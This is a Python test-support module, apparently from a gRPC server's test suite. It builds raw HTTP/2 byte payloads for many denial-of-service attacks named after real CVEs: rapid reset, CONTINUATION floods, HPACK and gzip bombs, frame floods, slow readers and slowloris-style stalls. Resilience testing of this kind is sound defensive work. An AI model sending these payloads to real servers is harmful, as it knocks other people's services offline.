"""The attacks, as bytes that are made before anything is sent: an attacker must not be slower than
its victim.

`ATTACKS` has each by name: what is sent once a connection is open, and how. Sources of the names:
CVE-2023-44487 (rapid reset), CVE-2025-8671 (MadeYouReset), CVE-2024-28182 (CONTINUATION flood),
CVE-2019-9511 to 9518 (the floods and slow readers).
"""

from __future__ import annotations

import struct
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass

import hpack

from tests.support.rawclient import PREFACE, Header, grpc_message, raw_frame, request_headers
from tests.support.testservice import pb

UNARY = "/grpc.testing.TestService/UnaryCall"
INPUT = "/grpc.testing.TestService/StreamingInputCall"
DUPLEX = "/grpc.testing.TestService/FullDuplexCall"
DATA, HEADERS, PRIORITY, RST, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS, ACK, PADDED = 1, 4, 1, 8
INITIAL_WINDOW, WINDOW_MAX = 4, 2**31 - 1
STREAMS_MAX = 256  # what the server says, and an attacker may use up
STEP_STREAMS = 100
CANCEL = struct.pack(">I", 8)
SETTINGS_ACK = raw_frame(SETTINGS, ACK, 0)
# The connection's window as wide as it goes: for those who do not mean to update it.
WIDE = raw_frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", WINDOW_MAX - 65_535))
HELLO = PREFACE + raw_frame(SETTINGS, 0, 0) + SETTINGS_ACK


@dataclass(frozen=True)
class Attack:
    """`opening` is sent once, then `flood` again and again, `floods` times at most (0: without
    end), then `steps`, each when something has come back for the one before. `reads`: whether the
    attacker reads what comes back. `patient`: after its last byte it waits to be cut off.
    `side_by_side`: how many connections at a time, each as described."""

    opening: bytes
    flood: bytes = b""
    floods: int = 1
    steps: tuple[bytes, ...] = ()
    reads: bool = True
    patient: bool = False
    side_by_side: int = 1


def setting(number: int, value: int) -> bytes:
    """A SETTINGS frame with one entry."""
    return raw_frame(SETTINGS, 0, 0, struct.pack(">HI", number, value))


class Calls:
    """Requests whose headers cost a byte each after the first."""

    def __init__(self, path: str, *extra: Header) -> None:
        encoder, headers = hpack.Encoder(), request_headers(path, *extra)
        self._first, self._rest = encoder.encode(headers), encoder.encode(headers)

    def __call__(self, count: int, then: Callable[[int], bytes], *, end: bool = False) -> bytes:
        """`count` requests on streams 1, 3, ..., each followed by `then(stream)`."""
        return b"".join(self._each(0, count, then, end))

    def steps(
        self, count: int, then: Callable[[int], bytes], *, end: bool = False
    ) -> tuple[bytes, ...]:
        """The same, in steps that never have too many streams open."""
        starts = range(0, count, STEP_STREAMS)
        return tuple(b"".join(self._each(at, STEP_STREAMS, then, end)) for at in starts)

    def _each(
        self, start: int, count: int, then: Callable[[int], bytes], end: bool
    ) -> Iterator[bytes]:
        flags = END_HEADERS | (END_STREAM if end else 0)
        for index in range(start, start + count):
            stream = 2 * index + 1
            yield raw_frame(HEADERS, flags, stream, self._rest if index else self._first)
            yield then(stream)


def reset(stream: int) -> bytes:
    return raw_frame(RST, 0, stream, CANCEL)


def message(stream: int, payload: bytes = b"", flag: int = 0) -> bytes:
    """A whole request, and the end of the stream."""
    return raw_frame(DATA, END_STREAM, stream, grpc_message(payload, flag))


def pieces(stream: int, data: bytes) -> bytes:
    """DATA frames of the usual size."""
    return b"".join(
        raw_frame(DATA, 0, stream, data[at : at + 16_384]) for at in range(0, len(data), 16_384)
    )


def reply_of(size: int) -> bytes:
    """A unary request for a reply of this size."""
    encoded: bytes = pb.SimpleRequest(response_size=size).SerializeToString()
    return encoded


def blocked_duplex() -> bytes:
    """A first message whose replies fill the stream's queue, so that no second one is read."""
    request = pb.StreamingOutputCallRequest()
    for _ in range(4):
        request.response_parameters.add(size=60_000)
    return grpc_message(request.SerializeToString())


def gzip_bomb(size: int) -> bytes:
    """`size` zero bytes as gzip, made without holding them."""
    packer, zeros = zlib.compressobj(9, zlib.DEFLATED, 31), bytes(1 << 20)
    parts = [packer.compress(zeros) for _ in range(size >> 20)]
    return b"".join([*parts, packer.flush()])


def hpack_bomb(count: int) -> bytes:
    """One long header in the table of compression, then blocks that are references to it."""
    encoder = hpack.Encoder()
    # Headers that are never indexed leave the table to the long one.
    headers = [(*header, True) for header in request_headers(UNARY)]
    long = [("x", "y" * 3_900)]
    first = encoder.encode(headers + long)
    reference = encoder.encode(long)
    assert len(reference) == 1, "the long header is not in the table"
    again = encoder.encode(headers) + reference * 16_000
    flags = END_HEADERS | END_STREAM
    blocks = [raw_frame(HEADERS, flags, 2 * i + 1, again) for i in range(1, count)]
    return raw_frame(HEADERS, flags, 1, first) + b"".join(blocks)


def kept_metadata(count: int) -> bytes:
    """Calls whose metadata is as long as it may be and costs a few bytes on the wire; their
    requests never come."""
    encoder = hpack.Encoder()
    headers = [(*header, True) for header in request_headers(UNARY)]
    long = [("x", "y" * 3_900)]
    first = encoder.encode(headers + long)
    again = encoder.encode(headers) + encoder.encode(long) * 4
    blocks = [raw_frame(HEADERS, END_HEADERS, 2 * i + 1, again) for i in range(1, count)]
    return raw_frame(HEADERS, END_HEADERS, 1, first) + b"".join(blocks)


def half_a_header_block() -> bytes:
    block = hpack.Encoder().encode(request_headers(UNARY))
    return HELLO + raw_frame(HEADERS, 0, 1, block[:10])


def _overflow(stream: int) -> bytes:
    return raw_frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", WINDOW_MAX))


def _empty_data(stream: int) -> bytes:
    return raw_frame(DATA, 0, stream)


def _self_dependent(stream: int) -> bytes:
    return raw_frame(PRIORITY, 0, stream, struct.pack(">IB", stream, 16))


def _late_data(stream: int) -> bytes:
    return message(stream) + raw_frame(DATA, END_STREAM, stream, b"x")


def _floods() -> dict[str, Attack]:
    """One kind of frame, again and again."""
    plain = HELLO + raw_frame(HEADERS, END_HEADERS, 1, hpack.Encoder().encode(
        request_headers(INPUT)))  # fmt: skip
    frames = {
        "PING": raw_frame(PING, 0, 0, b"attacker"),
        "SETTINGS": setting(INITIAL_WINDOW, 65_535),
        "SETTINGS without entries": raw_frame(SETTINGS, 0, 0),
        "empty DATA": _empty_data(1),
        "PRIORITY": raw_frame(PRIORITY, 0, 1, struct.pack(">IB", 3, 16)),
        "frames of an unknown type": raw_frame(200, 0, 0, b"?"),
        "WINDOW_UPDATE": raw_frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\1"),
        "WINDOW_UPDATE of a stream": raw_frame(WINDOW_UPDATE, 0, 1, b"\0\0\0\1"),
        "acknowledgements of SETTINGS": SETTINGS_ACK,
        "acknowledgements of PING": raw_frame(PING, ACK, 0, b"attacker"),
        "DATA of padding alone": raw_frame(DATA, PADDED, 1, b"\1\0"),
    }
    found = {name: Attack(plain, frame * 1_000, 0) for name, frame in frames.items()}
    for name in ("PING", "SETTINGS", "SETTINGS without entries"):
        steps = tuple([frames[name] * 100] * 1_000)
        found[f"{name}, in step"] = Attack(plain, steps=steps)
    for name in ("PING", "SETTINGS"):
        found[f"{name}, answers unread"] = Attack(plain, frames[name] * 1_000, 0, reads=False)
    return found


def _resets() -> dict[str, Attack]:
    """The client resets, or makes the server reset."""
    count = 60_000
    unary, stream, broken = Calls(UNARY), Calls(INPUT), Calls(UNARY, ("connection", "x"))
    short = Calls(UNARY, ("content-length", "1"))
    return {
        "rapid reset": Attack(HELLO, unary(count, reset)),
        "rapid reset of whole requests": Attack(
            HELLO, unary(count, lambda s: message(s) + reset(s))
        ),
        "rapid reset of running handlers": Attack(HELLO, stream(count, reset)),
        "window overflows": Attack(HELLO, unary(count, _overflow)),
        "window overflows, in step": Attack(HELLO, steps=unary.steps(count, _overflow)),
        "malformed headers, in step": Attack(
            HELLO, steps=broken.steps(count, lambda s: b"", end=True)
        ),
        "lengths that lie, in step": Attack(HELLO, steps=short.steps(count, message)),
        "window overflows, answers unread": Attack(HELLO, unary(count, _overflow), reads=False),
        "malformed headers": Attack(HELLO, broken(count, lambda s: b"", end=True)),
        "lengths that lie": Attack(HELLO, short(count, message)),
        "PRIORITY on itself": Attack(HELLO, unary(count, _self_dependent)),
        "DATA after the end": Attack(HELLO, unary(count, _late_data)),
        "more streams than allowed": Attack(HELLO, stream(count, lambda s: b"")),
        "more streams than allowed, SETTINGS not acknowledged": Attack(
            PREFACE + raw_frame(SETTINGS, 0, 0), stream(count, lambda s: b"")
        ),
        "the same, answers unread": Attack(
            PREFACE + raw_frame(SETTINGS, 0, 0), stream(count, lambda s: b""), reads=False
        ),
        "resets of a closed stream": Attack(HELLO + unary(1, reset), reset(1) * 1_000, 0),
    }


def _headers() -> dict[str, Attack]:
    half = half_a_header_block()
    return {
        "CONTINUATION flood": Attack(half, raw_frame(CONTINUATION, 0, 1, b"\x00\1a\1b") * 1_000, 0),
        "empty CONTINUATION flood": Attack(half, raw_frame(CONTINUATION, 0, 1) * 1_000, 0),
        "header bomb": Attack(HELLO, hpack_bomb(STREAMS_MAX)),
    }


def _bodies() -> dict[str, Attack]:
    bomb = grpc_message(gzip_bomb(200 << 20), 1)
    packed, unary, duplex = Calls(UNARY, ("grpc-encoding", "gzip")), Calls(UNARY), Calls(DUPLEX)
    window = 262_144
    tiny = grpc_message(b"") * ((window - 1_000) // 5)
    unfinished = grpc_message(bytes(window - 5), length=8 << 20)
    return {
        "decompression bomb": Attack(
            HELLO, packed(20, lambda s: pieces(s, bomb) + raw_frame(DATA, END_STREAM, s))
        ),
        "tiny messages that nobody reads": Attack(
            HELLO + setting(INITIAL_WINDOW, 0),
            duplex(64, lambda s: raw_frame(DATA, 0, s, blocked_duplex()) + pieces(s, tiny)),
            patient=True,
        ),
        "metadata of requests that never come": Attack(
            HELLO, kept_metadata(STREAMS_MAX), patient=True, side_by_side=60
        ),
        "claims of long requests": Attack(
            HELLO,
            unary(STREAMS_MAX, lambda s: raw_frame(DATA, 0, s, grpc_message(b"", length=8 << 20))),
            patient=True,
            side_by_side=8,
        ),
        "unfinished long requests": Attack(
            HELLO,
            unary(STREAMS_MAX, lambda s: pieces(s, unfinished)),
            patient=True,
            side_by_side=8,
        ),
    }


def _readers() -> dict[str, Attack]:
    unary = Calls(UNARY)
    # 12 times 80 calls are fewer than a worker takes: an honest call always finds room.
    flood = unary(80, lambda s: message(s, reply_of(625_000)))
    few = unary(4, lambda s: message(s, reply_of(2 << 20)))
    return {
        "large replies unread on many connections": Attack(
            HELLO + setting(INITIAL_WINDOW, WINDOW_MAX) + WIDE,
            few,
            reads=False,
            patient=True,
            side_by_side=200,
        ),
        "no window for large replies": Attack(
            HELLO + setting(INITIAL_WINDOW, 0), flood, patient=True, side_by_side=12
        ),
        "large replies unread": Attack(
            HELLO + setting(INITIAL_WINDOW, WINDOW_MAX) + WIDE,
            flood,
            reads=False,
            patient=True,
            side_by_side=12,
        ),
    }


def _loris() -> dict[str, Attack]:
    many = 300
    stalled = HELLO + Calls(UNARY)(1, lambda s: raw_frame(DATA, 0, s, b"\0\0"))
    openings = {
        "silence": b"",
        "half a preface": PREFACE[:10],
        "SETTINGS never acknowledged": PREFACE + raw_frame(SETTINGS, 0, 0),
        "half a header block": half_a_header_block(),
        "half a frame": HELLO + b"\0\0\5\0",
        "half a request": stalled,
    }
    return {name: Attack(raw, patient=True, side_by_side=many) for name, raw in openings.items()}


def _handshakes() -> dict[str, Attack]:
    many = 300
    return {
        "silence": Attack(b"", patient=True, side_by_side=many),
        "half a TLS handshake": Attack(
            b"\x16\3\1\2\0\1\0\1\xfc\3\3", patient=True, side_by_side=many
        ),
        "HTTP/2 without TLS": Attack(HELLO, patient=True, side_by_side=many),
        "noise": Attack(b"\x80\x2e\1\3\1" * 1_000, patient=True, side_by_side=many),
    }


GROUPS: dict[str, Callable[[], dict[str, Attack]]] = {
    "resets": _resets,
    "floods": _floods,
    "headers": _headers,
    "bodies": _bodies,
    "readers": _readers,
    "loris": _loris,
    "handshakes": _handshakes,
}


def attack(group: str, name: str) -> Attack:
    """One attack; its bytes are made now."""
    return GROUPS[group]()[name]
